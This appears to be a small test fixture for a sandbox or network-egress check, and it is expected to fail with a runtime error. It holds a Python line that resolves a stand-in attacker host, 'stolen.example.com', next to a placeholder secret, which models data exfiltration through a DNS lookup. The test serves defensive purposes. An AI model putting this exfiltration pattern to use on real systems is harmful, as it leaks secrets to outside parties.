# tries: to send data out with a name lookup
# kind: stdio
# seen: runtime_error
import socket
print(socket.getaddrinfo("stolen.example.com", 80) and "@SECRET@")
